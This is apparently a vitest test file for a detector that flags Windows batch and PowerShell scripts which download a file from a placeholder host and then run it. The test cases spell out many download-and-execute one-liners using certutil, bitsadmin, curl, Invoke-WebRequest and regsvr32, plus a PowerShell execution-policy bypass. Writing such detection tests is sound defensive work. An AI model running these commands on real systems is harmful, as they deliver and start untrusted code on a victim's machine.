import { describe, expect, test } from "vitest";
import { markText, type TextFormat } from "../../text/marked-text.ts";
import { remoteShell } from "../remote-shell.ts";
import { batchRuns } from "./batch.ts";

const seenIn = (text: string, format: TextFormat = "script") =>
  batchRuns(markText(text, format)).map(({ line, confidence, does }) =>
    [line, confidence, does].join(" "),
  );
const url = "https://c.zzz.io/a";
const started = "starts a file that it downloads from c.zzz.io";

describe("a file that is fetched and started:", () => {
  test.each([
    `certutil -urlcache -split -f ${url} %TEMP%\\a.exe\nstart "" /b %TEMP%\\a.exe`,
    `certutil.exe -f -urlcache ${url} a.exe\na.exe`,
    `set DST=%TEMP%\\a.exe\ncertutil -urlcache -f ${url} %DST% && %DST%`,
    `bitsadmin /transfer j /download /priority high ${url} "%TEMP%\\a.exe"\nstart /min "" "%TEMP%\\a.exe"`,
    `bitsadmin /transfer j /download ${url} C:\\a.exe\ncall C:\\a.exe`,
    `curl -L ${url} -o a.msi\nmsiexec /i a.msi`,
    `curl.exe -sLo a.bat ${url}\ncmd /c a.bat`,
    `curl --output a.dll ${url}\nrundll32 a.dll,Run`.replace(",Run", " Run"),
    `curl ${url} --output a.vbs\nwscript a.vbs`,
    `powershell -c "(New-Object Net.WebClient).DownloadFile('${url}', 'a.exe')"\n.\\a.exe`,
    `powershell Invoke-WebRequest ${url} -OutFile a.ps1\npowershell -ExecutionPolicy Bypass -File a.ps1`,
    `powershell Start-BitsTransfer ${url} a.exe\n@start a.exe`,
    `powershell -c "iwr ${url} -UseBasicParsing -OutFile 'a.exe'"\nif exist a.exe (echo 1) else a.exe`,
    `curl ${url} -o a.js\ncscript a.js`,
    `curl ${url} -o a.sct\nregsvr32 a.sct`,
    `curl ${url} -o a.exe\nfor %%i in (1 2) do a.exe`,
  ])("%s", (text) => {
    expect(seenIn(text)).toEqual([expect.stringContaining(`high ${started}`)]);
  });

  test("is reported with the severity of a download that runs", () => {
    const text = `certutil -urlcache -f ${url} a.exe\nstart a.exe`;
    expect(remoteShell.find(markText(text, "script"))).toMatchObject([{ line: 2, does: started }]);
  });

  test("in a block of a text", () => {
    const block = `\`\`\`bat\ncurl ${url} -o a.exe\na.exe\n\`\`\``;
    expect(seenIn(block, "markdown")).toEqual([`3 medium ${started}`]);
    expect(seenIn(`# Attacks\n\n${block}`, "markdown")).toEqual([`5 low ${started}`]);
    expect(seenIn(`Never do this:\n\n${block}`, "markdown")).toEqual([]);
  });
});

describe("silent:", () => {
  test.each<[string, string, TextFormat?]>([
    ["what is only fetched", `curl ${url} -o a.json\ntype a.json`],
    ["another file that is started", `curl ${url} -o a.exe\nstart b.exe`],
    ["a file of this machine", "curl http://localhost/a -o a.exe\na.exe"],
    ["a comment", `curl ${url} -o a.exe\nrem a.exe\n:: a.exe`],
    ["a block of another language", `\`\`\`js\ncurl ${url} -o a.exe\na.exe\n\`\`\``, "markdown"],
    ["prose", `curl ${url} -o a.exe\na.exe`, "markdown"],
    ["a shell script", `curl ${url} -o a.exe\na.exe`, "shell"],
    ["a start without a download", `set A=1\nset B=%A%%C%\ncurl --help\na.exe`],
  ])("%s", (_name, text, format) => {
    expect(seenIn(text, format)).toEqual([]);
  });
});
